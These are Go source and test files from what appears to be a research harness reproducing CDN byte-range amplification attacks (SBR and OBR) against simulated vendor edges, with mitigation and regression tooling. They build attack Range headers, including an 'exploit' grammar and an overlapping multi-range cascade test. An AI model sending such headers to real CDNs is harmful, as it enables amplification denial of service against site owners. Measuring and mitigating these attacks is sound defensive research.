	return nil, fmt.Errorf("unknown mitigation %q (have %s)", name, strings.Join([]string{
		MitigationNone, MitigationLaziness, MitigationBoundedExpansion,
		MitigationSlicing, MitigationRejectOverlap, MitigationCoalesce}, ", "))
}

// Profile resolves the cell's vendor profile with its mitigation
// applied (for OBR cells this is the FCDN; the mitigation goes to the
// BCDN instead — see BCDNProfile).
func (c CellConfig) Profile() (*vendor.Profile, error) {
	p, ok := vendor.ByName(c.Vendor)
	if !ok {
		return nil, fmt.Errorf("unknown vendor %q", c.Vendor)
	}
	if c.Experiment == KindOBR {
		return p, nil
	}
	return mitigated(p, c.Mitigation)
}

// BCDNProfile resolves an OBR cell's back CDN with the cell's
// mitigation applied (§VI-C's OBR fixes act on the replying side).
func (c CellConfig) BCDNProfile() (*vendor.Profile, error) {
	p, ok := vendor.ByName(c.BCDN)
	if !ok {
		return nil, fmt.Errorf("unknown bcdn %q", c.BCDN)
	}
	return mitigated(p, c.Mitigation)
}

// RangeCase resolves the cell's grammar to the concrete Range header
// case the probe sends.
func (c CellConfig) RangeCase() (core.SBRCase, error) {
	if g := c.normalized().Grammar; strings.HasPrefix(g, grammarCorpusPrefix) {
		return corpusGrammarCase(g)
	}
	switch c.normalized().Grammar {
	case GrammarExploit:
		return core.SBRExploit(c.Vendor, int64(c.SizeMB)*core.MiB), nil
	case GrammarFirstByte:
		return core.SBRCase{RangeHeader: "bytes=0-0", Repeat: 1}, nil
	case GrammarSuffix:
		return core.SBRCase{RangeHeader: "bytes=-1", Repeat: 1}, nil
	case GrammarOpen:
		return core.SBRCase{RangeHeader: "bytes=0-", Repeat: 1}, nil
	case GrammarOverlap8:
		return core.SBRCase{RangeHeader: core.BuildOverlappingRange("0-", 8), Repeat: 1}, nil
	}
	return core.SBRCase{}, fmt.Errorf("unknown range grammar %q", c.Grammar)
}

// SBROptions re-expresses the cell as the SBR topology options the
// existing core entry points consume.
func (c CellConfig) SBROptions(rt *core.Runtime) core.SBROptions {
	return core.SBROptions{
		OriginRangeSupport: true,
		DisableEdgeCache:   c.normalized().CacheState == CacheDisabled,
		CollapseMisses:     c.Collapse,
		Runtime:            rt,
	}
}

// OBROptions re-expresses the cell as the OBR topology options the
// existing core entry points consume.
func (c CellConfig) OBROptions(rt *core.Runtime) core.OBROptions {
	return core.OBROptions{
		CollapseMisses: c.Collapse,
		Runtime:        rt,
	}
}

// FloodOptions re-expresses the cell as the canonical
// core.RunSBRFloodOpts options. The Range case must be resolved by the
// caller (RangeCase) because grammar resolution can fail.
func (c CellConfig) FloodOptions(rcase core.SBRCase) core.FloodOptions {
	c = c.normalized()
	opts := core.FloodOptions{
		Path:         core.TargetPath,
		ResourceSize: int64(c.SizeMB) * core.MiB,
		Workers:      c.Workers,
		PerWorker:    c.PerWorker,
		KeepAlive:    c.KeepAlive,
		Range:        rcase,
	}
	if c.Engine != "" {
		opts.Engine = core.Engine(c.Engine)
	}
	return opts
}

// ExpParams re-expresses an "exp:" cell as the registry run parameters.
func (c CellConfig) ExpParams(parallel int) exp.Params {
	return exp.Params{SizesMB: c.normalized().SizesMB, Parallel: parallel}
}
