package campaign

import (
	"fmt"
	"io"
	"math"
	"sort"
)

// CellChange is one out-of-tolerance metric on one cell present in
// both campaigns.
type CellChange struct {
	Hash  string  `json:"hash"`
	Label string  `json:"label"`
	Field string  `json:"field"`
	Old   float64 `json:"old"`
	New   float64 `json:"new"`
}

// DiffReport compares a new campaign directory against an older one
// cell by cell (cells pair up by content hash, so only identical
// configurations are ever compared). Missing and Changed are the
// regressions; Added cells are informational — a grown spec is not a
// regression.
type DiffReport struct {
	OldDir, NewDir string
	Tolerance      float64
	Compared       int
	Missing        []string // cells in old with no result in new
	Added          []string // cells in new only
	Changed        []CellChange
}

// Clean reports whether the new campaign regressed nothing: every old
// cell is present and within tolerance.
func (d *DiffReport) Clean() bool {
	return len(d.Missing) == 0 && len(d.Changed) == 0
}

// Diff loads both campaign directories and compares the amplification
// numbers of every cell they share. tolerance is relative: a metric
// changed when |new-old| > tolerance × max(|old|, 1); zero demands
// exact equality, which is the right default here because the
// simulation is deterministic.
func Diff(oldDir, newDir string, tolerance float64) (*DiffReport, error) {
	oldC, err := Load(oldDir)
	if err != nil {
		return nil, err
	}
	newC, err := Load(newDir)
	if err != nil {
		return nil, err
	}
	d := &DiffReport{OldDir: oldDir, NewDir: newDir, Tolerance: tolerance}
	within := func(oldV, newV float64) bool {
		return math.Abs(newV-oldV) <= tolerance*math.Max(math.Abs(oldV), 1)
	}
	for hash, oldR := range oldC.Cells {
		newR, ok := newC.Cells[hash]
		if !ok {
			d.Missing = append(d.Missing, oldR.Config.Label())
			continue
		}
		d.Compared++
		check := func(field string, oldV, newV float64) {
			if !within(oldV, newV) {
				d.Changed = append(d.Changed, CellChange{
					Hash: hash, Label: oldR.Config.Label(), Field: field, Old: oldV, New: newV,
				})
			}
		}
		check("factor", oldR.Factor, newR.Factor)
		check("victim_bytes", float64(oldR.VictimBytes), float64(newR.VictimBytes))
		check("attacker_bytes", float64(oldR.AttackerBytes), float64(newR.AttackerBytes))
		check("blocked", float64(oldR.Blocked), float64(newR.Blocked))
		check("parts", float64(oldR.Parts), float64(newR.Parts))
		check("max_n", float64(oldR.MaxN), float64(newR.MaxN))
	}
	for hash, newR := range newC.Cells {
		if _, ok := oldC.Cells[hash]; !ok {
			d.Added = append(d.Added, newR.Config.Label())
		}
	}
	sort.Strings(d.Missing)
	sort.Strings(d.Added)
	sort.Slice(d.Changed, func(i, j int) bool {
		if d.Changed[i].Label != d.Changed[j].Label {
			return d.Changed[i].Label < d.Changed[j].Label
		}
		return d.Changed[i].Field < d.Changed[j].Field
	})
	return d, nil
}

// Render writes the report as text: one line per regression, then the
// verdict line ("no regressions" on a clean diff — CI greps for it).
func (d *DiffReport) Render(w io.Writer) error {
	for _, label := range d.Missing {
		if _, err := fmt.Fprintf(w, "MISSING  %s\n", label); err != nil {
			return err
		}
	}
	for _, c := range d.Changed {
		if _, err := fmt.Fprintf(w, "CHANGED  %s: %s %g -> %g\n", c.Label, c.Field, c.Old, c.New); err != nil {
			return err
		}
	}
	for _, label := range d.Added {
		if _, err := fmt.Fprintf(w, "ADDED    %s\n", label); err != nil {
			return err
		}
	}
	var err error
	if d.Clean() {
		_, err = fmt.Fprintf(w, "diff %s -> %s: %d cells compared, %d added, no regressions\n",
			d.OldDir, d.NewDir, d.Compared, len(d.Added))
	} else {
		_, err = fmt.Fprintf(w, "diff %s -> %s: %d cells compared, %d missing, %d changed, %d added\n",
			d.OldDir, d.NewDir, d.Compared, len(d.Missing), len(d.Changed), len(d.Added))
	}
	return err
}
