package campaign

// Engine axis and corpus grammar macro coverage: the vtime engine must
// be hash-transparent at its default (old campaign directories stay
// addressable), rejected outside flood cells, and runnable end-to-end;
// the "corpus" macro must expand to the full generated grammar set
// with stable per-case hashes.

import (
	"context"
	"strings"
	"testing"

	"repro/internal/core"
)

// TestCellHashEngineDefaultTransparent: "pipe" and "" must hash (and
// label) identically — the engine field postdates the hash scheme, so
// stored pre-engine campaigns remain addressable.
func TestCellHashEngineDefaultTransparent(t *testing.T) {
	base := CellConfig{Experiment: KindFlood, Vendor: "cloudflare", SizeMB: 1,
		KeepAlive: true, Workers: 2, PerWorker: 3}
	pipe := base
	pipe.Engine = string(core.EnginePipe)
	if base.Hash() != pipe.Hash() {
		t.Fatalf("explicit pipe engine changed the hash: %s vs %s", base.Hash(), pipe.Hash())
	}
	if base.Label() != pipe.Label() {
		t.Fatalf("explicit pipe engine changed the label: %q vs %q", base.Label(), pipe.Label())
	}
	vt := base
	vt.Engine = string(core.EngineVTime)
	if vt.Hash() == base.Hash() {
		t.Fatal("vtime engine did not change the hash")
	}
	if !strings.Contains(vt.Label(), string(core.EngineVTime)) {
		t.Fatalf("vtime label %q does not name the engine", vt.Label())
	}
}

func TestValidateRejectsEngineMisuse(t *testing.T) {
	for _, c := range []CellConfig{
		// vtime outside flood cells.
		{Experiment: KindSBR, Vendor: "cloudflare", SizeMB: 1, Engine: string(core.EngineVTime)},
		{Experiment: KindOBR, Vendor: "cdn77", BCDN: "akamai", Engine: string(core.EngineVTime)},
		// vtime with a warm edge cache: replayed requests never enter
		// the cache, so a warm pre-pass cannot be modelled.
		{Experiment: KindFlood, Vendor: "cloudflare", SizeMB: 1,
			CacheState: CacheWarm, Engine: string(core.EngineVTime)},
		// unknown engine.
		{Experiment: KindFlood, Vendor: "cloudflare", SizeMB: 1, Engine: "steam"},
	} {
		if err := c.Validate(); err == nil {
			t.Errorf("cell %+v validated without error", c)
		}
	}
}

func TestSpecExpansionEngines(t *testing.T) {
	axes := Axes{
		Vendors: []string{"cloudflare"},
		SizesMB: []int{1},
		Engines: []string{string(core.EnginePipe), string(core.EngineVTime)},
	}
	flood, err := Spec{Experiments: []string{KindFlood}, Axes: axes}.Cells()
	if err != nil {
		t.Fatal(err)
	}
	if len(flood) != 2 {
		t.Fatalf("flood spec expanded to %d cells, want 2 (one per engine)", len(flood))
	}
	if flood[0].Hash == flood[1].Hash {
		t.Fatal("pipe and vtime flood cells collapsed to one hash")
	}
	// sbr cells ignore the engine axis entirely: the two axis points
	// normalize to one cell.
	sbr, err := Spec{Experiments: []string{KindSBR}, Axes: axes}.Cells()
	if err != nil {
		t.Fatal(err)
	}
	if len(sbr) != 1 {
		t.Fatalf("sbr spec expanded to %d cells, want 1 (engine axis ignored)", len(sbr))
	}
}

// TestSpecExpansionCorpusGrammar: the "corpus" macro expands to the
// whole generated corpus, deterministically.
func TestSpecExpansionCorpusGrammar(t *testing.T) {
	spec := Spec{
		Experiments: []string{KindSBR},
		Axes: Axes{
			Vendors:       []string{"cloudflare"},
			SizesMB:       []int{1},
			RangeGrammars: []string{GrammarCorpus},
		},
	}
	cells, err := spec.Cells()
	if err != nil {
		t.Fatal(err)
	}
	if len(cells) != CorpusGrammarCount {
		t.Fatalf("corpus macro expanded to %d cells, want %d", len(cells), CorpusGrammarCount)
	}
	again, err := spec.Cells()
	if err != nil {
		t.Fatal(err)
	}
	for i := range cells {
		if cells[i].Hash != again[i].Hash {
			t.Fatalf("cell %d hash unstable across expansions", i)
		}
		rc, err := cells[i].Config.RangeCase()
		if err != nil {
			t.Fatalf("cell %d: %v", i, err)
		}
		if rc.RangeHeader == "" {
			t.Fatalf("cell %d resolved to an empty Range header", i)
		}
	}
	// A corpus index outside the generated set must fail validation.
	bad := CellConfig{Experiment: KindSBR, Vendor: "cloudflare", SizeMB: 1, Grammar: "corpus:200"}
	if err := bad.Validate(); err == nil {
		t.Error("out-of-range corpus grammar validated without error")
	}
}

// TestRunVTimeFloodCell runs a vtime flood cell end-to-end through the
// campaign runner and checks it records the same accounting a pipe
// cell of the same shape does.
func TestRunVTimeFloodCell(t *testing.T) {
	spec := Spec{
		Name:        "engines",
		Experiments: []string{KindFlood},
		Workers:     3,
		PerWorker:   2,
		Axes: Axes{
			Vendors:   []string{"cloudflare"},
			SizesMB:   []int{1},
			KeepAlive: []bool{true},
			Engines:   []string{string(core.EnginePipe), string(core.EngineVTime)},
		},
	}
	dir := t.TempDir()
	sum, err := Run(context.Background(), spec, RunOptions{Dir: dir, Parallel: 1})
	if err != nil {
		t.Fatal(err)
	}
	if sum.Executed != 2 || sum.Skipped != 0 {
		t.Fatalf("summary %+v, want 2 executed cells", sum)
	}
	if len(sum.Results) != 2 {
		t.Fatalf("got %d results", len(sum.Results))
	}
	a, b := sum.Results[0], sum.Results[1]
	if a.Requests != 6 || b.Requests != 6 {
		t.Fatalf("requests %d / %d, want 6", a.Requests, b.Requests)
	}
	if a.VictimBytes != b.VictimBytes || a.AttackerBytes != b.AttackerBytes {
		t.Errorf("engines diverged: pipe %d/%d bytes, vtime %d/%d bytes",
			a.VictimBytes, a.AttackerBytes, b.VictimBytes, b.AttackerBytes)
	}
	if a.Dials != b.Dials {
		t.Errorf("dials diverged: %d vs %d", a.Dials, b.Dials)
	}
}
