// Package transport bridges the simulation engines onto real TCP
// sockets: the cmd/ tools run the same origin and edge implementations
// the experiments use, but across the loopback (or a LAN) instead of
// the in-memory instrumented network.
package transport

import (
	"fmt"
	"net"
	"strconv"
	"sync/atomic"

	"repro/internal/h2"
	"repro/internal/netsim"
)

// ConnHandler is anything that can serve one connection; both
// origin.Server and cdn.Edge satisfy it.
type ConnHandler interface {
	ServeConn(conn netsim.Conn)
}

// Serve accepts TCP connections and hands each to h until the listener
// closes. It returns the listener's Accept error.
func Serve(l net.Listener, h ConnHandler) error {
	for {
		conn, err := l.Accept()
		if err != nil {
			return fmt.Errorf("accept: %w", err)
		}
		go h.ServeConn(&countingConn{Conn: conn})
	}
}

// ServeOn is Serve with accept-side traffic accounting: every accepted
// connection counts into seg with the directions inverted relative to
// Dial — bytes read off the socket are the peers' requests (seg.Up),
// bytes written are this server's responses (seg.Down). It gives a
// daemon a live view of its client-facing hop (cdnsim's "client-cdn"
// segment, which the in-flight amplification factor is a ratio
// against) without the remote peer's cooperation. A nil seg degrades
// to Serve.
func ServeOn(l net.Listener, h ConnHandler, seg *netsim.Segment) error {
	if seg == nil {
		return Serve(l, h)
	}
	for {
		conn, err := l.Accept()
		if err != nil {
			return fmt.Errorf("accept: %w", err)
		}
		seg.AddConn()
		go h.ServeConn(&acceptConn{Conn: conn, seg: seg})
	}
}

// acceptConn is countingConn's accept-side mirror: the same segment
// bookkeeping with the request/response directions swapped.
type acceptConn struct {
	net.Conn
	seg    *netsim.Segment
	closed atomic.Bool
}

func (c *acceptConn) Close() error {
	if c.closed.CompareAndSwap(false, true) {
		c.seg.ConnClosed(false)
	}
	return c.Conn.Close()
}

func (c *acceptConn) Read(p []byte) (int, error) {
	n, err := c.Conn.Read(p)
	if n > 0 {
		c.seg.AddUp(n)
	}
	return n, err
}

func (c *acceptConn) Write(p []byte) (int, error) {
	n, err := c.Conn.Write(p)
	if n > 0 {
		c.seg.AddDown(n)
	}
	return n, err
}

var _ netsim.Conn = (*acceptConn)(nil)

// Dialer opens TCP connections and accounts their traffic on a
// segment, implementing the same contract as netsim.Network.Dial.
type Dialer struct{}

// Dial connects to a TCP address. Bytes written by this end count as
// seg.Up; bytes read count as seg.Down (the responses of the peer).
func (Dialer) Dial(addr string, seg *netsim.Segment) (netsim.Conn, error) {
	conn, err := net.Dial("tcp", addr)
	if err != nil {
		return nil, fmt.Errorf("dial %s: %w", addr, err)
	}
	seg.AddConn()
	return &countingConn{Conn: conn, seg: seg}, nil
}

// countingConn counts TCP traffic into a segment (nil segment counts
// nothing, e.g. on the accept side where the peer does the counting).
type countingConn struct {
	net.Conn
	seg    *netsim.Segment
	closed atomic.Bool
}

// Close tears the TCP connection down and drains the segment's live
// gauge exactly once (keep-alive clients may Close twice on error
// paths).
func (c *countingConn) Close() error {
	if c.seg != nil && c.closed.CompareAndSwap(false, true) {
		c.seg.ConnClosed(false)
	}
	return c.Conn.Close()
}

func (c *countingConn) Read(p []byte) (int, error) {
	n, err := c.Conn.Read(p)
	if c.seg != nil && n > 0 {
		c.seg.AddDown(n)
	}
	return n, err
}

func (c *countingConn) Write(p []byte) (int, error) {
	n, err := c.Conn.Write(p)
	if c.seg != nil && n > 0 {
		c.seg.AddUp(n)
	}
	return n, err
}

var _ netsim.Conn = (*countingConn)(nil)

// H2Handler answers requests for the HTTP/2 bridge (origin.Server and
// cdn.Edge both satisfy it via their Handle methods).
type H2Handler = h2.Handler

// ServeH2 accepts TCP connections and speaks prior-knowledge cleartext
// HTTP/2 (h2c without the upgrade dance) on each.
func ServeH2(l net.Listener, handler H2Handler) error {
	for {
		conn, err := l.Accept()
		if err != nil {
			return fmt.Errorf("accept: %w", err)
		}
		go h2.ServeConn(conn, handler) //nolint:errcheck
	}
}

// NextPort returns addr with its port incremented by one (for pairing
// an HTTP/2 listener with an HTTP/1.1 one).
func NextPort(addr string) (string, error) {
	host, portStr, err := net.SplitHostPort(addr)
	if err != nil {
		return "", fmt.Errorf("addr %q: %w", addr, err)
	}
	port, err := strconv.Atoi(portStr)
	if err != nil {
		return "", fmt.Errorf("port %q: %w", portStr, err)
	}
	return net.JoinHostPort(host, strconv.Itoa(port+1)), nil
}
