package transport

import (
	"bufio"
	"net"
	"testing"
	"time"

	"repro/internal/cdn"
	"repro/internal/httpwire"
	"repro/internal/metrics"
	"repro/internal/netsim"
	"repro/internal/origin"
	"repro/internal/resource"
	"repro/internal/vendor"
)

// startTCP serves h on an ephemeral loopback port.
func startTCP(t *testing.T, h ConnHandler) string {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	go Serve(l, h)
	return l.Addr().String()
}

func fetchTCP(t *testing.T, addr string, req *httpwire.Request) *httpwire.Response {
	t.Helper()
	conn, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	req.Headers.Set("Connection", "close")
	if _, err := req.WriteTo(conn); err != nil {
		t.Fatal(err)
	}
	resp, err := httpwire.ReadResponse(bufio.NewReader(conn), httpwire.Limits{})
	if err != nil {
		t.Fatal(err)
	}
	return resp
}

func TestOriginOverTCP(t *testing.T) {
	store := resource.NewStore()
	store.AddSynthetic("/f.bin", 4096, "application/octet-stream")
	srv := origin.NewServer(store, origin.Config{RangeSupport: true})
	addr := startTCP(t, srv)

	req := httpwire.NewRequest("GET", "/f.bin", "h")
	req.Headers.Add("Range", "bytes=0-0")
	resp := fetchTCP(t, addr, req)
	if resp.StatusCode != 206 || len(resp.Body) != 1 {
		t.Fatalf("status=%d len=%d", resp.StatusCode, len(resp.Body))
	}
}

func TestFullSBRStackOverTCP(t *testing.T) {
	// origin <- edge over real TCP; the SBR asymmetry must survive the
	// socket transport.
	store := resource.NewStore()
	store.AddSynthetic("/f.bin", 1<<20, "application/octet-stream")
	srv := origin.NewServer(store, origin.Config{RangeSupport: true})
	originAddr := startTCP(t, srv)

	seg := netsim.NewSegment("cdn-origin")
	edge, err := cdn.NewEdge(cdn.Config{
		Profile:      vendor.Cloudflare(),
		Dialer:       Dialer{},
		UpstreamAddr: originAddr,
		UpstreamSeg:  seg,
	})
	if err != nil {
		t.Fatal(err)
	}
	edgeAddr := startTCP(t, edge)

	req := httpwire.NewRequest("GET", "/f.bin?cb=tcp", "h")
	req.Headers.Add("Range", "bytes=0-0")
	resp := fetchTCP(t, edgeAddr, req)
	if resp.StatusCode != 206 || len(resp.Body) != 1 {
		t.Fatalf("status=%d len=%d", resp.StatusCode, len(resp.Body))
	}
	if down := seg.Traffic().Down; down < 1<<20 {
		t.Errorf("cdn-origin TCP traffic = %d, want >= 1MB", down)
	}
	if seg.Conns() != 1 {
		t.Errorf("conns = %d", seg.Conns())
	}
}

func TestOBRCascadeOverTCP(t *testing.T) {
	store := resource.NewStore()
	store.AddSynthetic("/1KB.bin", 1024, "application/octet-stream")
	srv := origin.NewServer(store, origin.Config{RangeSupport: false})
	originAddr := startTCP(t, srv)

	bcdnSeg := netsim.NewSegment("bcdn-origin")
	bcdn, err := cdn.NewEdge(cdn.Config{
		Profile: vendor.Akamai(), Dialer: Dialer{},
		UpstreamAddr: originAddr, UpstreamSeg: bcdnSeg,
	})
	if err != nil {
		t.Fatal(err)
	}
	bcdnAddr := startTCP(t, bcdn)

	fcdnProfile := vendor.Cloudflare()
	fcdnProfile.Options.CloudflareBypass = true
	fcdnSeg := netsim.NewSegment("fcdn-bcdn")
	fcdn, err := cdn.NewEdge(cdn.Config{
		Profile: fcdnProfile, Dialer: Dialer{},
		UpstreamAddr: bcdnAddr, UpstreamSeg: fcdnSeg,
	})
	if err != nil {
		t.Fatal(err)
	}
	fcdnAddr := startTCP(t, fcdn)

	req := httpwire.NewRequest("GET", "/1KB.bin", "h")
	req.Headers.Add("Range", "bytes=0-,0-,0-,0-,0-,0-,0-,0-,0-,0-") // n=10
	resp := fetchTCP(t, fcdnAddr, req)
	if resp.StatusCode != 206 {
		t.Fatalf("status = %d", resp.StatusCode)
	}
	if int64(len(resp.Body)) < 10*1024 {
		t.Errorf("reply body = %d bytes, want >= 10KB", len(resp.Body))
	}
	if between := fcdnSeg.Traffic().Down; between < 10*1024 {
		t.Errorf("fcdn-bcdn = %d bytes", between)
	}
	if toOrigin := bcdnSeg.Traffic().Down; toOrigin > 4096 {
		t.Errorf("bcdn-origin = %d bytes, want one copy", toOrigin)
	}
}

func TestDialerErrors(t *testing.T) {
	if _, err := (Dialer{}).Dial("127.0.0.1:1", netsim.NewSegment("s")); err == nil {
		t.Error("dial to closed port succeeded")
	}
}

func TestCountingConnNilSegment(t *testing.T) {
	a, b := net.Pipe()
	defer a.Close()
	defer b.Close()
	cc := &countingConn{Conn: a}
	go b.Write([]byte("xy"))
	buf := make([]byte, 2)
	if _, err := cc.Read(buf); err != nil {
		t.Fatal(err)
	}
	go func() {
		buf := make([]byte, 2)
		b.Read(buf)
	}()
	if _, err := cc.Write([]byte("ok")); err != nil {
		t.Fatal(err)
	}
}

// TestServeOnCountsAcceptSide pins the accept-side accounting contract:
// bytes read off accepted sockets are request-direction (Up), bytes
// written are response-direction (Down), and the live-conn gauge drains
// when the client disconnects.
func TestServeOnCountsAcceptSide(t *testing.T) {
	store := resource.NewStore()
	store.AddSynthetic("/f.bin", 4096, "application/octet-stream")
	srv := origin.NewServer(store, origin.Config{RangeSupport: true})
	seg := netsim.NewSegmentIn(metrics.New(), "client-cdn")

	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	go ServeOn(l, srv, seg)

	req := httpwire.NewRequest("GET", "/f.bin", "h")
	resp := fetchTCP(t, l.Addr().String(), req)
	if resp.StatusCode != 200 {
		t.Fatalf("status %d", resp.StatusCode)
	}
	tr := seg.Traffic()
	if tr.Up <= 0 || tr.Down <= 0 {
		t.Fatalf("accept-side traffic not counted: %+v", tr)
	}
	// The response (headers + 4 KB body) dwarfs the request on this hop.
	if tr.Down <= tr.Up || tr.Down < 4096 {
		t.Errorf("direction mix-up: up=%d down=%d (down must carry the body)", tr.Up, tr.Down)
	}
	if got := seg.Conns(); got != 1 {
		t.Errorf("opened conns = %d, want 1", got)
	}
	deadline := time.Now().Add(2 * time.Second)
	for seg.Live() != 0 {
		if time.Now().After(deadline) {
			t.Fatalf("live gauge stuck at %d after client close", seg.Live())
		}
		time.Sleep(time.Millisecond)
	}
}

// TestServeOnNilSegment degrades to plain Serve.
func TestServeOnNilSegment(t *testing.T) {
	store := resource.NewStore()
	store.AddSynthetic("/f.bin", 16, "application/octet-stream")
	srv := origin.NewServer(store, origin.Config{RangeSupport: true})
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	go ServeOn(l, srv, nil)
	resp := fetchTCP(t, l.Addr().String(), httpwire.NewRequest("GET", "/f.bin", "h"))
	if resp.StatusCode != 200 {
		t.Fatalf("status %d", resp.StatusCode)
	}
}
