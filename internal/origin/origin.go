// Package origin implements the experiment's origin web server: the
// role Apache/2.4.18 plays in the paper. It serves synthetic resources
// over instrumented connections, with byte-range support that can be
// switched off (the OBR attacker disables range handling on the origin
// so it answers every request with a full 200 copy).
package origin

import (
	"errors"
	"fmt"
	"strconv"
	"strings"
	"sync"
	"time"

	"repro/internal/httpwire"
	"repro/internal/metrics"
	"repro/internal/multipart"
	"repro/internal/netsim"
	"repro/internal/ranges"
	"repro/internal/resource"
	"repro/internal/trace"
)

// traceNode labels the origin in span trees.
const traceNode = "origin"

// ServerSoftware is the Server header value, matching the paper's origin.
const ServerSoftware = "Apache/2.4.18 (Ubuntu)"

// fixedDate keeps serialized responses byte-identical across runs.
var fixedDate = time.Date(2020, time.June, 29, 12, 0, 0, 0, time.UTC)

// Config controls origin behaviour.
type Config struct {
	// RangeSupport enables byte-range handling. When false the origin
	// ignores Range headers entirely and never sends Accept-Ranges —
	// the configuration the OBR attacker forces.
	RangeSupport bool

	// MaxRangesPerRequest caps the ranges served from one multi-range
	// request (the post-Apache-Killer mitigation). 0 means unlimited.
	MaxRangesPerRequest int

	// Now supplies the Date header; nil means a fixed instant so that
	// responses are byte-deterministic.
	Now func() time.Time

	// FailAfterBodyBytes, when positive, makes the origin abort each
	// connection after writing that many body bytes — fault injection
	// for interrupted transfers (the situation range requests exist to
	// recover from, §II-B).
	FailAfterBodyBytes int64

	// Trace is the span sink; nil means trace.Default (disabled unless
	// configured). The origin joins the trace carried by an inbound
	// traceparent header, closing the attacker→edge→origin tree.
	Trace *trace.Tracer

	// Metrics is the registry the origin's response counters resolve
	// against at construction. Nil means metrics.Default — the
	// daemon-facing fallback so origind's /metrics keeps working;
	// per-run topologies inject their Runtime's registry here.
	Metrics *metrics.Registry
}

// ReceivedRequest records one request as seen by the origin, for the
// Table I/II comparisons between what the client sent and what the
// origin received.
type ReceivedRequest struct {
	Method      string
	Target      string
	RangeHeader string // "" when absent
	HasRange    bool
}

// Server is the origin HTTP server.
type Server struct {
	store  *resource.Store
	cfg    Config
	tracer *trace.Tracer

	mu  sync.Mutex
	log []ReceivedRequest

	wg      sync.WaitGroup
	stopMu  sync.Mutex
	stopped bool

	// Registry series, resolved at construction. mResponses is keyed by
	// the status codes the origin actually emits; unexpected codes fall
	// into the "other" series.
	mResponses map[int]*metrics.Counter
	mOther     *metrics.Counter
	mBodyBytes *metrics.Counter
	hBodySize  *metrics.Histogram
}

// NewServer returns an origin serving store with cfg.
func NewServer(store *resource.Store, cfg Config) *Server {
	if cfg.Now == nil {
		cfg.Now = func() time.Time { return fixedDate }
	}
	tracer := cfg.Trace
	if tracer == nil {
		tracer = trace.Default
	}
	reg := cfg.Metrics
	if reg == nil {
		reg = metrics.Default
	}
	const respName = "origin_responses_total"
	const respHelp = "Responses produced by the origin, by status code."
	mResponses := make(map[int]*metrics.Counter)
	for _, code := range []int{200, 206, 304, 404, 405, 416} {
		mResponses[code] = reg.Counter(respName, respHelp,
			metrics.L("status", strconv.Itoa(code)))
	}
	return &Server{
		store:      store,
		cfg:        cfg,
		tracer:     tracer,
		mResponses: mResponses,
		mOther:     reg.Counter(respName, respHelp, metrics.L("status", "other")),
		mBodyBytes: reg.Counter("origin_response_bytes_total",
			"Response body bytes produced by the origin."),
		hBodySize: reg.Histogram("origin_response_size_bytes",
			"Distribution of origin response body sizes."),
	}
}

// Log returns a copy of the received-request log.
func (s *Server) Log() []ReceivedRequest {
	s.mu.Lock()
	defer s.mu.Unlock()
	out := make([]ReceivedRequest, len(s.log))
	copy(out, s.log)
	return out
}

// ResetLog clears the received-request log.
func (s *Server) ResetLog() {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.log = nil
}

func (s *Server) record(req *httpwire.Request) {
	rangeVal, has := req.Headers.Get("Range")
	s.mu.Lock()
	s.log = append(s.log, ReceivedRequest{
		Method:      req.Method,
		Target:      req.Target,
		RangeHeader: rangeVal,
		HasRange:    has,
	})
	s.mu.Unlock()
}

// Serve accepts connections from l until the listener closes. It
// returns after in-flight connections finish.
func (s *Server) Serve(l *netsim.Listener) {
	for {
		conn, err := l.Accept()
		if err != nil {
			s.wg.Wait()
			return
		}
		s.wg.Add(1)
		go func() {
			defer s.wg.Done()
			s.ServeConn(conn)
		}()
	}
}

// ServeConn handles one connection with HTTP/1.1 keep-alive semantics.
// The bufio wrappers come from the httpwire pools, so steady-state
// connection handling does not allocate per-connection I/O buffers.
func (s *Server) ServeConn(conn netsim.Conn) {
	defer conn.Close()
	br := httpwire.GetReader(conn)
	defer httpwire.PutReader(br)
	bw := httpwire.GetWriter(conn)
	defer httpwire.PutWriter(bw)
	for {
		req, err := httpwire.ReadRequest(br, httpwire.Limits{})
		if err != nil {
			return // EOF, peer close, or malformed request
		}
		resp := s.Handle(req)
		if s.cfg.FailAfterBodyBytes > 0 && resp.BodySize() > s.cfg.FailAfterBodyBytes {
			// Write the headers and a truncated body, then cut the
			// connection — an interrupted transfer. The body is
			// materialized (it may be streamed) and truncated in place;
			// Content-Length stays at the full size so the peer sees a
			// short read.
			full := resp.BodyBytes()
			resp.SetBody(full[:s.cfg.FailAfterBodyBytes])
			resp.Headers.Set("Content-Length", strconv.Itoa(len(full)))
			resp.WriteTo(bw) //nolint:errcheck
			bw.Flush()       //nolint:errcheck
			return
		}
		if _, err := resp.WriteTo(bw); err != nil {
			return
		}
		if err := bw.Flush(); err != nil {
			return
		}
		if v, _ := req.Headers.Get("Connection"); v == "close" {
			return
		}
	}
}

// Handle produces the response for one request. It is exported so tests
// and in-process harnesses can exercise origin logic without a transport.
// Under tracing it records the leaf span of the request tree, joining
// the trace the edge's back-to-origin fetch propagated.
func (s *Server) Handle(req *httpwire.Request) *httpwire.Response {
	var sp *trace.Span
	if s.tracer.Enabled() {
		sp = s.tracer.StartServer(trace.Extract(req.Headers), traceNode, req.Method+" "+req.Target)
		if sp.Recording() {
			if v, ok := req.Headers.Get("Range"); ok {
				if len(v) > 48 {
					v = v[:45] + "..."
				}
				sp.SetAttr("range", v)
			}
		}
	}
	resp := s.handle(req)
	if m := s.mResponses[resp.StatusCode]; m != nil {
		m.Inc()
	} else {
		s.mOther.Inc()
	}
	n := resp.BodySize()
	s.mBodyBytes.Add(n)
	s.hBodySize.Observe(n)
	if sp.Recording() {
		sp.SetAttrInt("status", int64(resp.StatusCode))
		sp.SetAttrInt("body_bytes", n)
	}
	sp.End()
	return resp
}

// handle is the request pipeline body.
func (s *Server) handle(req *httpwire.Request) *httpwire.Response {
	s.record(req)
	if req.Method != "GET" && req.Method != "HEAD" {
		return s.errorResponse(405, "method not allowed")
	}
	res, ok := s.store.Get(req.Path())
	if !ok {
		return s.errorResponse(httpwire.StatusNotFound, "not found")
	}

